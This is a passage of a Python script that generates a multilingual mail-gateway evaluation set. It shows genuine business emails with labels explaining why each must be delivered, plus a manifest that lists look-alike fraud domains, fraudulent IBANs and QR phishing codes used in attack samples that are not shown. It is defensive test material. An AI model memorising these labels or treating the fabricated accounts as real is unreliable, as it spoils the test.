    – wyświetlenia: 4 812
    – aplikacje: 47 (w tym 12 nowych od ostatniego logowania)

    [[Przedłuż ogłoszenie|https://www.pracuj.pl/pracodawcy/ogloszenia/1004418752/przedluz]]

    Pozdrawiamy
    Zespół Pracuj.pl
    '''), hcte='quoted-printable', html_opts=dict(font='Arial, sans-serif', button='#0c6ae6'),
    extra=['List-Unsubscribe: <https://www.pracuj.pl/pracodawcy/ustawienia/powiadomienia>'],
    **I(bare('mail-out3.pracuj.pl', 'mail-out3.pracuj.pl', '91.198.59.33')),
    what='Genuine job-board notification (ad expiring) to the Polish recruiter',
    why='Real service domain, expected operational notice with link to the service itself')

msg(B, '25-pl-pracownik-tymczasowy-pytanie-pit', 'pl', 'iso-8859-2',
    ('Tomasz Lewandowski', 'tomek.lewandowski87@wp.pl'), ['AK'],
    'Pytanie o PIT-11 i nadgodziny z pazdziernika', '2026-11-27 19:12',
    T('''
    Dzień dobry Pani Agnieszko,

    pracuję przez Państwa w magazynie w Niemczech (nr pracownika T-10487, magazyn Frankfurt-Fechenheim). Mam dwa pytania:

    1. W pasku za październik brakuje mi chyba 6 nadgodzin z soboty 17.10 - kierownik zmiany potwierdził, że były wpisane. Czy może Pani sprawdzić?
    2. Czy PIT-11 za 2026 dostanę pocztą na adres domowy, czy przez portal? Od lutego mieszkam pod nowym adresem w Gnieźnie, ale to już zgłaszałem w formularzu w biurze.

    Z góry dziękuję i pozdrawiam
    Tomasz Lewandowski
    tel. 601 284 377
    '''),
    **I(bare('smtpo83.poczta.wp.pl', 'smtpo83.poczta.wp.pl', '212.77.101.83'),
        hops=['from [188.146.97.21] (188.146.97.21.nat.umts.dynamic.t-mobile.pl [188.146.97.21])\n\tby smtp.wp.pl (WP-SMTPD) with ESMTPSA id {q};\n\t{d}']),
        mid='default', middom='wp.pl',
    what='Genuine question from a temporary worker via his private WP address (overtime, tax form); no bank change',
    why='Temp workers routinely use free mailers; content contains worker ID and no payment diversion')

msg(B, '26-pl-wynajmujacy-przypomnienie-platnosci', 'pl', 'iso-8859-2',
    ('Malta Office Park - Dział Najmu', 'najem@maltaoffice.pl'), ['KN'],
    'Przypomnienie o płatności - czynsz listopad 2026', '2026-11-18 12:05',
    T(f'''
    Szanowni Państwo,

    uprzejmie przypominamy, że w dniu 10.11.2026 minął termin płatności faktury FN/11/2026/0317 za najem biura nr 2.14 w listopadzie 2026 r. (czynsz 11 870,00 PLN + opłaty eksploatacyjne 2 450,00 PLN, razem 14 320,00 PLN brutto).

    Prosimy o uregulowanie należności na rachunek wskazany w umowie najmu i na fakturze (Bank Pekao S.A.). Jeżeli płatność została już dokonana, prosimy uznać niniejsze przypomnienie za nieaktualne.

    Z poważaniem
    Dział Najmu
    Malta Office Park
    ul. Abpa A. Baraniaka 88, 61-131 Poznań
    '''), cc=['PW'],
    **I(bare('mail.maltaoffice.pl', 'mail.maltaoffice.pl', '91.226.22.145'), mailer='Microsoft Outlook 16.0'),
    what='Genuine rent payment reminder from the landlord; refers to the account in the lease (no new details)',
    why='Known landlord domain, unchanged payment route, standard wording')

# ============================== BUSINESS: Spanish ===========================
msg(B, '27-es-almacenes-levante-queja', 'es', 'iso-8859-1',
    ('Raúl Sánchez', 'rsanchez@almaceneslevante.es'), ['CR'],
    'Queja: operarios sin EPIs y un carretillero sin carnet', '2026-11-19 09:48',
    T('''
    Buenos días Carmen:

    Te escribo porque esta mañana han llegado tres de los operarios que nos enviasteis para el turno de mañana sin botas de seguridad ni chaleco, y uno de los carretilleros no tenía el carnet de carretillero en vigor. Hemos tenido que mandarlos de vuelta y la descarga de los camiones de las 7:00 se ha retrasado casi dos horas.

    Necesito que antes del viernes me confirméis que todos los trabajadores cedidos tienen la formación en PRL y los EPIs. Si vuelve a pasar, aplicaremos la penalización prevista en el contrato.

    Llámame cuando puedas.

    Un saludo,
    Raúl Sánchez
    Jefe de Almacén
    Almacenes Levante S.L. - Polígono Fuente del Jarro, Paterna (Valencia)
    '''),
    **I(bare('relay-out2.dinaserver.com', 'relay-out2.dinaserver.com', '82.98.155.72'), mailer='Microsoft Outlook 16.0', bstyle='outlook'),
    what='Genuine customer complaint (workers without PPE / licence) with contract-penalty warning',
    why='Real customer domain on its usual hosting, no links/attachments/payment requests')

msg(B, '28-es-interno-urgente-fianza-getafe', 'es', 'iso-8859-15',
    'LU', ['JM'], 'URGENTE: pagar hoy la fianza del almacén de formación de Getafe', '2026-11-26 10:40',
    T('''
    Hola Javier:

    Ayer firmamos por fin el contrato de alquiler de la nave de Getafe para el centro de formación de carretilleros (Claudia lo aprobó el día 20, lo tienes en la carpeta compartida de Contratos > 2026 > Getafe).

    La propiedad nos pide la fianza de dos mensualidades (6.800,00 €) antes de entregar las llaves, y la entrega es mañana a las 9:00. ¿Puedes incluirla en la remesa de hoy? El IBAN es el que figura en la cláusula 5 del contrato firmado; no lo pongo aquí por si acaso.

    Si tienes cualquier duda, llámame al móvil o pásate por mi mesa.

    Gracias,
    Lucía

    Lucía Fernández
    Office Manager - Example Group España
    '''), cc=['CB'],
    **I(internal('10.40.2.18')),
    extra=['Importance: high', 'Content-Language: es-ES'],
    what='Genuine urgent payment request from the Madrid office manager via the internal relay; refers to signed contract, CFO approval and shared folder, withholds the IBAN deliberately',
    why='Internal origin, verifiable references, no secrecy; urgency alone is not fraud')

msg(B, '29-es-infojobs-candidaturas', 'es', 'utf-8',
    ('InfoJobs', 'noreply@infojobs.net'), ['CR'],
    'Tienes 14 candidatos nuevos en "Mozo/a de almacén con carretilla - Getafe"', '2026-11-17 08:05',
    T('''
    Hola Carmen,

    Tu oferta "Mozo/a de almacén con carretilla - Getafe" ha recibido 14 candidaturas nuevas desde ayer.

    Candidatos que cumplen todos los requisitos: 6
    Total de inscritos: 58

    [[Ver candidatos|https://empresa.infojobs.net/candidates/list?offerId=a7f3e29c41b84d5a9e0c]]

    Un saludo,
    El equipo de InfoJobs
    '''), html=T('''
    Hola Carmen,

    Tu oferta **"Mozo/a de almacén con carretilla - Getafe"** ha recibido 14 candidaturas nuevas desde ayer.

    Candidatos que cumplen todos los requisitos: 6
    Total de inscritos: 58

    [[Ver candidatos|https://empresa.infojobs.net/candidates/list?offerId=a7f3e29c41b84d5a9e0c]]

    Un saludo,
    El equipo de InfoJobs
    '''), hcte='quoted-printable', html_opts=dict(font='Arial, sans-serif', button='#167db7'),
    extra=['List-Unsubscribe: <https://empresa.infojobs.net/settings/notifications>'],
    **I(ses('54.240.6.40', 'a6-40')),
    what='Genuine job-board notification (InfoJobs) of new applicants',
    why='Real service domain, routine notification the recruiter subscribed to')

msg(B, '30-es-caixabank-aviso-seguridad', 'es', 'utf-8',
    ('CaixaBank', 'avisos@caixabank.com'), ['JM'],
    'Has activado CaixaBank Sign en un nuevo dispositivo', '2026-11-10 13:02',
    T('''
    Hola, Javier:

    Te confirmamos que hoy, 10/11/2026 a las 12:58, has activado CaixaBank Sign en un nuevo dispositivo (iPhone) para operar con la banca digital de empresas.

    Si has sido tú, no tienes que hacer nada.

    Si no reconoces esta operación, ponte en contacto con tu gestor o llama al teléfono de atención que figura en la web oficial o en el reverso de tu tarjeta. CaixaBank nunca te pedirá claves ni códigos por correo electrónico o SMS.

    Un saludo,
    CaixaBank
    '''), html=T('''
    Hola, Javier:

    Te confirmamos que hoy, 10/11/2026 a las 12:58, has activado **CaixaBank Sign** en un nuevo dispositivo (iPhone) para operar con la banca digital de empresas.

    Si has sido tú, no tienes que hacer nada.

    Si no reconoces esta operación, ponte en contacto con tu gestor o llama al teléfono de atención que figura en la web oficial o en el reverso de tu tarjeta. CaixaBank nunca te pedirá claves ni códigos por correo electrónico o SMS.

    Un saludo,
    CaixaBank
    '''), cte='base64', hcte='base64', html_opts=dict(font='Arial, sans-serif'),
    **I(bare('mail5.caixabank.com', 'mail5.caixabank.com', '195.76.9.205')),
    what='Genuine bank security notification after the accountant activated a new signing device',
    why='No link, no request, matches an action the user just took')

msg(B, '31-es-gestoria-factura-nominas', 'es', 'iso-8859-15',
    ('Marta López', 'marta@gestorialopez.es'), ['JM'],
    'Factura 2026-0458 - gestión de nóminas noviembre', '2026-12-02 09:15',
    T(f'''
    Buenos días, Javier:

    Te adjunto la factura 2026-0458 correspondiente a la gestión de nóminas y seguros sociales de noviembre (96 trabajadores cedidos y 7 de estructura), además de los partes de alta y baja tramitados en el Sistema RED.

    Importe: 2.287,12 € (IVA incluido)
    Vencimiento: 30 días
    Domiciliación / transferencia: Banco Santander, {fmt_iban(ES_GESTORIA)} (la de siempre)

    Las nóminas de diciembre las cerraremos el día 22 por las fiestas; avísame antes del 18 de las altas nuevas.

    Un abrazo,
    Marta

    Marta López
    Gestoría López & Asociados - Calle de Alcalá 187, 28009 Madrid
    '''),
    atts=[('Factura_2026-0458.pdf', 'application/pdf', make_pdf([
        '# Gestoria Lopez & Asociados - Factura 2026-0458', 'Cliente: Example Group Espana S.L.',
        'Gestion de nominas y seguros sociales noviembre 2026 (103 trabajadores)', 'Base 1.890,18 EUR  IVA 21% 396,94 EUR  Total 2.287,12 EUR',
        f'IBAN {fmt_iban(ES_GESTORIA)}', '', 'PLACEHOLDER - inert test document'], 'Factura 2026-0458'))],
    **I(gmail('qk1-f181', '209.85.222.181'), mid='gmail', middom='gestorialopez.es'),
    what='Genuine monthly invoice from the payroll advisory firm (Google Workspace on its own domain), usual IBAN',
    why='Known supplier, own domain, unchanged bank account')

# ============================== BUSINESS: Greek =============================
msg(B, '32-el-hellas-cargo-aitima-ergazomenon', 'el', 'iso-8859-7',
    ('Γιώργος Αντωνίου', 'g.antoniou@hellascargo.gr'), ['EP'],
    'Αίτημα 10 εργαζομένων για απογραφή 28-29/11 και παρατήρηση', '2026-11-12 09:05',
    T('''
    Καλημέρα κυρία Παπαδοπούλου,

    για την ετήσια απογραφή της αποθήκης στον Ασπρόπυργο χρειαζόμαστε 10 επιπλέον εργαζόμενους το Σάββατο 28 και την Κυριακή 29 Νοεμβρίου, ωράριο 07:00-15:00. Κατά προτίμηση άτομα που έχουν ξαναδουλέψει σε εμάς και γνωρίζουν τα φορητά τερματικά.

    Θέλω επίσης να σας ενημερώσω ότι την Τρίτη δύο από τους εργαζόμενους της βραδινής βάρδιας αποχώρησαν μία ώρα νωρίτερα χωρίς να ενημερώσουν τον προϊστάμενο. Παρακαλώ να το δείτε, γιατί δημιουργεί πρόβλημα και με τις καταχωρήσεις στην ψηφιακή κάρτα εργασίας.

    Περιμένω επιβεβαίωση έως την Παρασκευή.

    Με εκτίμηση,
    Γιώργος Αντωνίου
    Διευθυντής Αποθήκης
    Hellas Cargo Α.Ε.
    '''), tz=2,
    **I(bare('mailgate.hellascargo.gr', 'mail.hellascargo.gr', '62.1.178.90'), mailer='Microsoft Outlook 16.0', bstyle='outlook'),
    what='Genuine customer request for inventory staff plus complaint (digital work card issue), ISO-8859-7',
    why='Known customer domain and mail server; operational content')

msg(B, '33-el-karagiannis-timologio-misthodosias', 'el', 'windows-1253',
    ('Λογιστικό Γραφείο Καραγιάννη', 'info@karagiannis-logistiki.gr'), ['NG'],
    'Τιμολόγιο Οκτωβρίου – μισθοδοσία', '2026-11-03 12:20',
    T(f'''
    Καλησπέρα κύριε Γεωργίου,

    σας αποστέλλουμε συνημμένα το τιμολόγιο παροχής υπηρεσιών για τη μισθοδοσία Οκτωβρίου (108 εργαζόμενοι, υποβολές ΑΠΔ και ΕΡΓΑΝΗ).

    Ποσό: 1.860,00 € πλέον ΦΠΑ 24% – σύνολο 2.306,40 €
    Πληρωμή στον γνωστό λογαριασμό: Eurobank, {fmt_iban(GR_KARA)}

    Οι βεβαιώσεις αποδοχών για τον Νοέμβριο θα είναι έτοιμες στις 8 Δεκεμβρίου.

    Με εκτίμηση,
    Μαρία Καραγιάννη
    Λογιστικό Γραφείο Καραγιάννη
    Λ. Συγγρού 142, 176 71 Καλλιθέα – τηλ. 210 9581 224
    '''), tz=2,
    atts=[('Timologio_0412_2026.pdf', 'application/pdf', make_pdf([
        '# Karagiannis Logistiki IKE - Timologio 0412/2026', 'Misthodosia Oktovriou 2026 - 108 ergazomenoi',
        'Kathari axia 1.860,00 EUR  FPA 24% 446,40  Synolo 2.306,40 EUR', f'Eurobank IBAN {fmt_iban(GR_KARA)}', '',
        'PLACEHOLDER - inert test document'], 'Timologio 0412'))],
    **I(bare('karagiannis-logistiki.gr', 'cp-43.webhost.gr', '185.4.132.43'), mailer='Microsoft Outlook 16.0', bstyle='outlook'),
    what='Genuine monthly invoice from the Greek payroll bureau (windows-1253) with the usual Eurobank IBAN',
    why='Real .gr domain of the supplier; contrast with attack/34 look-alike')

msg(B, '34-el-kariera-nees-aitiseis', 'el', 'utf-8',
    ('kariera.gr', 'noreply@kariera.gr'), ['EP'],
    'Νέες αιτήσεις για τη θέση «Αποθηκάριος – Ασπρόπυργος»', '2026-11-17 08:00',
    T('''
    Γεια σας,

    η αγγελία σας «Αποθηκάριος – Ασπρόπυργος» έλαβε 9 νέες αιτήσεις τις τελευταίες 24 ώρες.

    [[Δείτε τις αιτήσεις|https://www.kariera.gr/employer/jobs/3318847/applications]]

    Η αγγελία λήγει στις 30/11/2026.

    Η ομάδα του kariera.gr
    '''), tz=2, html=T('''
    Γεια σας,

    η αγγελία σας **«Αποθηκάριος – Ασπρόπυργος»** έλαβε 9 νέες αιτήσεις τις τελευταίες 24 ώρες.

    [[Δείτε τις αιτήσεις|https://www.kariera.gr/employer/jobs/3318847/applications]]

    Η αγγελία λήγει στις 30/11/2026.

    Η ομάδα του kariera.gr
    '''), hcte='base64', html_opts=dict(font='Arial, sans-serif', button='#00a0df'),
    extra=['List-Unsubscribe: <https://www.kariera.gr/employer/settings/notifications>'],
    **I(sendgrid('167.89.101.34', 'kqzwmnvx')),
    what='Genuine Greek job-board notification of new applications',
    why='Real service domain via its ESP; routine notice')

msg(B, '35-el-synadelfos-gmail-vpn', 'el', 'utf-8',
    ('Nikos Georgiou', 'nikos.georgiou.ath@gmail.com'), ['EP'],
    'Δεν μπορώ να συνδεθώ στο VPN', '2026-11-20 08:10',
    T('''
    Καλημέρα Ελένη,

    σου γράφω από το προσωπικό μου email γιατί από το σπίτι το VPN μου βγάζει συνέχεια σφάλμα πιστοποίησης και δεν μπορώ να μπω στο Outlook. Έχω ήδη ανοίξει αίτημα στο helpdesk μέσω τηλεφώνου.

    Θα έρθω στο γραφείο γύρω στις 11. Αν ψάξει κάποιος για τις μισθοδοσίες, πες του ότι θα τις στείλω από εκεί.

    Ευχαριστώ,
    Νίκος
    '''), tz=2,
    **I(gmail('ed1-f44', '209.85.208.44')),
    what='Colleague writing from his private Gmail about a VPN problem; no requests',
    why='Purely informational, consistent with the person; private-address colleague case that must not be blocked')

# ============================== BUSINESS: Russian ===========================
msg(B, '36-ru-severtorg-pretenziya-koi8', 'ru', 'koi8-r',
    ('Андрей Морозов', 'a.morozov@severtorg.ru'), ['IK'],
    'Претензия: 4 сотрудника не вышли на ночную смену 10.11', '2026-11-11 10:20',
    T('''
    Ирина, добрый день.

    Вынужден официально сообщить: в ночь с 10 на 11 ноября на склад в Химках не вышли 4 из 12 сотрудников, заявленных по договору о предоставлении персонала. О замене нас никто не предупредил, в результате отгрузка для двух сетевых клиентов задержана почти на пять часов.

    Прошу:
    1. до 12:00 сегодня сообщить, кем будут заменены отсутствующие сотрудники на ближайшие смены;
    2. не включать неотработанные часы в акт за ноябрь;
    3. назначить встречу на этой неделе для обсуждения ситуации.

    Ольгу Смирнову ставлю в копию.

    С уважением,
    Андрей Морозов
    Руководитель склада
    ООО "СеверТорг"
    '''), tz=3, cc=['OS'],
    **I(bare('mail.severtorg.ru', 'mail.severtorg.ru', '95.167.44.18'), mailer='Microsoft Outlook 16.0', bstyle='outlook'),
    what='Genuine customer complaint in KOI8-R about no-shows under a staff-leasing contract',
    why='Known customer domain and server; angry but legitimate')

msg(B, '37-ru-arendodatel-smena-rekvizitov', 'ru', 'windows-1251',
    ('АО «БЦ Полковая» – отдел аренды', 'arenda@bc-polkovaya.ru'), ['DV'],
    'Уведомление об изменении банковских реквизитов с 01.01.2027', '2026-11-27 12:00',
    T(f'''
    Уважаемые арендаторы!

    Сообщаем, что с 1 января 2027 года АО «БЦ Полковая» (ИНН {INN_BC}) переходит на обслуживание в другой банк. До 31.12.2026 включительно платежи принимаются по прежним реквизитам.

    Новые реквизиты (с 01.01.2027):
    Р/с {RS_BC_NEW}
    АО «Альфа-Банк», г. Москва
    БИК {BIK_ALFA}, к/с {KS_ALFA}

    Прежние реквизиты (действуют до 31.12.2026):
    Р/с {RS_BC_OLD}, ПАО Сбербанк, БИК {BIK_SBER}, к/с {KS_SBER}

    Дополнительное соглашение № 4 к договору аренды с новыми реквизитами направлено вам через систему ЭДО. Официальное письмо за подписью генерального директора прилагается. При возникновении вопросов просим связаться с нашей бухгалтерией по телефону, указанному в договоре аренды.

    С уважением,
    отдел аренды АО «БЦ Полковая»
    '''), tz=3, cc=['OS'],
    atts=[('Pismo_izmenenie_rekvizitov_2027.pdf', 'application/pdf', make_pdf([
        '# AO "BC Polkovaya" - Uvedomlenie ob izmenenii rekvizitov', f'INN {INN_BC}',
        f'S 01.01.2027: r/s {RS_BC_NEW}, AO Alfa-Bank, BIK {BIK_ALFA}',
        f'Do 31.12.2026: r/s {RS_BC_OLD}, PAO Sberbank, BIK {BIK_SBER}', '',
        'Generalnyi direktor: Sokolov A.V.', '', 'PLACEHOLDER - inert test document'], 'Uvedomlenie'))],
    **I(bare('mail.bc-polkovaya.ru', 'mail.bc-polkovaya.ru', '82.202.160.77'), mailer='Microsoft Outlook 16.0', bstyle='outlook'),
    what='Genuine landlord bank-detail change (windows-1251): overlap period, supplementary agreement via EDO, signed letter, phone verification via contract (valid account keys)',
    why='Real landlord domain and server, verifiable through independent channels; must be delivered')

msg(B, '38-ru-hh-novye-otkliki', 'ru', 'utf-8',
    ('hh.ru', 'noreply@hh.ru'), ['IK'],
    'Новые отклики на вакансию «Кладовщик (Химки)»: 23', '2026-11-19 09:00',
    T('''
    Здравствуйте, Ирина!

    На вакансию «Кладовщик (Химки)» поступило 23 новых отклика за последние сутки.

    [[Посмотреть отклики|https://hh.ru/employer/vacancyresponses?vacancyId=112873305]]

    Вакансия будет опубликована до 05.12.2026.

    Команда hh.ru
    '''), tz=3, html=T('''
    Здравствуйте, Ирина!

    На вакансию **«Кладовщик (Химки)»** поступило 23 новых отклика за последние сутки.

    [[Посмотреть отклики|https://hh.ru/employer/vacancyresponses?vacancyId=112873305]]

    Вакансия будет опубликована до 05.12.2026.

    Команда hh.ru
    '''), hcte='base64', html_opts=dict(font='Arial, sans-serif', button='#d6001c'),
    extra=['List-Unsubscribe: <https://hh.ru/employer/settings/notifications>'],
    **I(bare('mxout12.hh.ru', 'mxout12.hh.ru', '94.124.200.112')),
    what='Genuine HeadHunter (hh.ru) applicant notification',
    why='Real service domain, routine notification')

msg(B, '39-ru-vnutrennee-srochno-medosmotr', 'ru', 'utf-8',
    'OS', ['DV'], 'Срочно: оплатить сегодня счёт клиники за медосмотры', '2026-11-20 11:25',
    T('''
    Дмитрий, привет!

    Клиника «МедЛайн» выставила счёт № 2411 на 168 000 руб. за предварительные медосмотры 40 новых сотрудников для склада СеверТорга. Без оплаты они не выдадут заключения, а люди должны выйти на смену в понедельник.

    Счёт и договор лежат в папке Бухгалтерия > Счета > 2026-11, реквизиты клиники те же, что в договоре от марта. Ирина подтвердила количество людей.

    Сможешь отправить платёж сегодня до 16:00? Если что — я на месте, заходи.

    Спасибо!
    Ольга
    '''), tz=3, cte='base64',
    **I(internal('10.70.1.15')),
    extra=['Importance: high', 'Content-Language: ru-RU'],
    what='Genuine urgent internal payment request in Moscow via the internal relay (known clinic, contract, colleague confirmation)',
    why='Internal origin, known payee with unchanged details, verifiable references')

msg(B, '40-ru-klerk-rassylka', 'ru', 'utf-8',
    ('Клерк', 'news@klerk.ru'), ['DV'],
    'Главное за неделю: МРОТ-2027, новые коды доходов в 6-НДФЛ, взносы', '2026-11-25 08:00',
    T('''
    Главное за неделю для бухгалтера

    **МРОТ с 1 января 2027 года**
    Правительство внесло законопроект о повышении минимального размера оплаты труда. Проверьте оклады сотрудников, особенно по договорам предоставления персонала.

    **6-НДФЛ за 2026 год: что изменилось**
    Разбираем новые коды доходов и сроки сдачи отчета.

    **Страховые взносы: пониженные тарифы для МСП в 2027 году**
    Кто сохранит право на пониженные тарифы.

    [[Читать на klerk.ru|https://www.klerk.ru/buh/articles/digest-2026-11-25/]]

    Вы получили это письмо, потому что подписаны на рассылку «Клерка». [[!Отписаться|https://www.klerk.ru/subscribe/unsubscribe/?email=dmitry.volkov%40example.com]]
    '''), tz=3, html=T('''
    **Главное за неделю для бухгалтера**

    **МРОТ с 1 января 2027 года**
    Правительство внесло законопроект о повышении минимального размера оплаты труда. Проверьте оклады сотрудников, особенно по договорам предоставления персонала.

    **6-НДФЛ за 2026 год: что изменилось**
    Разбираем новые коды доходов и сроки сдачи отчета.

    **Страховые взносы: пониженные тарифы для МСП в 2027 году**
    Кто сохранит право на пониженные тарифы.

    [[Читать на klerk.ru|https://www.klerk.ru/buh/articles/digest-2026-11-25/]]

    Вы получили это письмо, потому что подписаны на рассылку «Клерка». [[!Отписаться|https://www.klerk.ru/subscribe/unsubscribe/?email=dmitry.volkov%40example.com]]
    '''), hcte='quoted-printable', html_opts=dict(font='Arial, sans-serif', button='#2b6cb0'),
    rp='bounce+dmitry.volkov=example.com@mail.klerk.ru',
    extra=['List-Unsubscribe: <https://www.klerk.ru/subscribe/unsubscribe/?email=dmitry.volkov%40example.com>', 'Precedence: bulk'],
    **I(bare('mail.klerk.ru', 'mail.klerk.ru', '81.177.140.31')),
    what='Subscribed Russian accounting newsletter (Klerk.ru)',
    why='Solicited newsletter from the real publisher domain')

# --------------------------------------------------------------------------
# Output
# --------------------------------------------------------------------------
LANG_NAMES = {'de': 'German', 'en': 'English', 'it': 'Italian', 'pl': 'Polish', 'es': 'Spanish', 'el': 'Greek', 'ru': 'Russian'}

def structure(m):
    s = []
    if m['text'] and m['html']:
        s.append('multipart/alternative')
    elif m['html']:
        s.append('HTML-only')
    else:
        s.append('text/plain')
    if m['related']:
        s.append('inline image')
    for f, c, d in m['atts']:
        s.append(f'att: {f}')
    return '; '.join(s)

def cte_desc(m):
    if m['html'] and not m['text']:
        return m['hcte']
    if m['html']:
        return m['cte'] if m['cte'] == m['hcte'] else f"{m['cte']}/{m['hcte']}"
    return m['cte']

def main():
    for folder in ('attack', 'business'):
        d = BASE / folder
        d.mkdir(parents=True, exist_ok=True)
        for old in d.glob('*.eml'):
            old.unlink()
    seen = set()
    for m in MSGS:
        assert m['fname'] not in seen, m['fname']
        seen.add(m['fname'])
        data = render(m)
        (BASE / m['folder'] / (m['fname'] + '.eml')).write_bytes(data)
    # staff.txt
    (BASE / 'staff.txt').write_text(''.join(f'{n}={a}\n' for k, n, a, r, o in STAFF), encoding='utf-8')
    # MANIFEST.md
    L = []
    L.append('# Example Group - mail-gateway blind evaluation set\n')
    L.append('Generated deterministically by `gen/build.py` (Python 3 stdlib only, no network). '
             'All messages are as received on the inbound MX `mx01.example.com`, dated 1 Nov - 5 Dec 2026. '
             'Internal mail arrives via `mail-int01.example.com [10.20.0.25]`. No Authentication-Results, DKIM-Signature '
             'or X-Spam headers are present: the gateway under test must decide on its own.\n')
    L.append('## The company\n')
    L.append('**Example Group** (example.com, examplegroup.eu; ~700 mailboxes) is a recruitment and temporary staffing agency: '
             'it places engineers, warehouse and office staff and runs payroll for several hundred temporary workers. '
             'HQ: Frankfurt am Main (DE). Offices: Milano (IT), Poznań (PL), Madrid (ES), Athens (GR), Manchester (UK), Moscow (RU). '
             'Workers from the Polish office are posted to German warehouses (A1 certificates, bus transport by Partner Logistik).\n')
    L.append('## Staff\n')
    L.append('| Name | Address | Role | Office |\n|---|---|---|---|')
    for k, n, a, r, o in STAFF:
        L.append(f'| {n} | {a} | {r} | {o} |')
    L.append('\nShared: all-staff@example.com (distribution list), helpdesk@example.com.\n')
    L.append('## Business correspondents\n')
    L.append('| Organisation | Relationship | Addresses |\n|---|---|---|')
    for o, r, a in CORRESPONDENTS:
        L.append(f'| {o} | {r} | {a.replace("<", "&lt;").replace(">", "&gt;")} |')
    L.append('\nLook-alike / impersonation domains used by attacks (all fictitious): examplegroup-eu.com, lieferantgmbh.de, '
             'partner-logistic.pl, ferretti-trasporti-spa.com, karagiannis-logistiki.com, klining-profi.com, '
             'examplegroupgmbh.onmicrosoft.com, plus fake authority/brand domains listed per message.\n')
    L.append('## Bank and crypto identifiers (all checksums valid)\n')
    L.append('| Use | Identifier |\n|---|---|')
    for lbl, v in [('Lieferant GmbH, genuine old (Commerzbank)', LIEF_OLD), ('Lieferant GmbH, genuine new 2027 (Frankfurter Sparkasse)', LIEF_NEW),
                   ('Lieferant look-alike fraud (N26)', LIEF_FAKE), ('Partner Logistik genuine old (PKO BP)', PLOG_OLD),
                   ('Partner Logistik genuine new 2027 (mBank)', PLOG_NEW), ('Partner Logistik look-alike fraud (Alior)', PLOG_FAKE),
                   ('Example Group Italia (Intesa, CIN checked)', EX_IT), ('Pulizie Lombarde (UniCredit, CIN checked)', PUL_IT),
                   ('UK payroll diversion (Monzo)', MONZO_FAKE), ('ES CEO-fraud beneficiary (CaixaBank, DC checked)', ES_FAKE_CEO),
                   ('ES payroll diversion (BBVA, DC checked)', ES_FAKE_PAY), ('Gestoría López genuine (Santander, DC checked)', ES_GESTORIA),
                   ('Karagiannis genuine (Eurobank)', GR_KARA), ('Karagiannis look-alike fraud (Piraeus)', GR_FAKE),
                   ('Klining-Profi fraud r/s (T-Bank, key vs BIK 044525974)', RS_KLIN_FAKE),
                   ('BC Polkovaya old r/s (Sberbank, key vs BIK 044525225)', RS_BC_OLD),
                   ('BC Polkovaya new r/s (Alfa-Bank, key vs BIK 044525593)', RS_BC_NEW),
                   ('Bitcoin bech32 (attack 13)', BTC1), ('Bitcoin Base58Check (attack 14)', BTC2), ('Bitcoin Base58Check (attack 26)', BTC3)]:
        L.append(f'| {lbl} | `{v}` |')
    L.append('\nPolish IBANs carry a valid bank-branch check digit, Italian a valid CIN, Spanish valid DC digits; '
             'the Italian company code and the Polish NIPs and Russian INNs carry valid check digits. '
             'QR codes (attacks 19 in PDF, 25 inline PNG, 35 attached PNG) are real byte-mode QR codes (EC level M) '
             'produced by the built-in encoder; they decode to the fictitious phishing URLs.\n')
    for folder, title in (('attack', 'Attack messages (must NOT be delivered plainly)'), ('business', 'Genuine business messages (MUST be delivered)')):
        L.append(f'## {title}\n')
        L.append('| File | Lang | Charset / CTE | Structure | From | What it is | Why attack / genuine |\n|---|---|---|---|---|---|---|')
        for m in MSGS:
            if m['folder'] != folder:
                continue
            f = who(m['frm'])
            L.append(f"| {m['fname']}.eml | {m['lang']} | {m['cs']} / {cte_desc(m)} | {structure(m)} | "
                     f"{f[1]} | {m['what']} | {m['why']} |")
        L.append('')
    L.append('## Counts per language\n')
    L.append('| Language | attack | business |\n|---|---|---|')
    for lg in LANG_NAMES:
        a = sum(1 for m in MSGS if m['folder'] == 'attack' and m['lang'] == lg)
        b = sum(1 for m in MSGS if m['folder'] == 'business' and m['lang'] == lg)
        L.append(f'| {LANG_NAMES[lg]} ({lg}) | {a} | {b} |')
    L.append('')
    (BASE / 'MANIFEST.md').write_text('\n'.join(L) + '\n', encoding='utf-8')
    for folder in ('attack', 'business'):
        print(folder, len(list((BASE / folder).glob('*.eml'))))

if __name__ == '__main__':
    main()
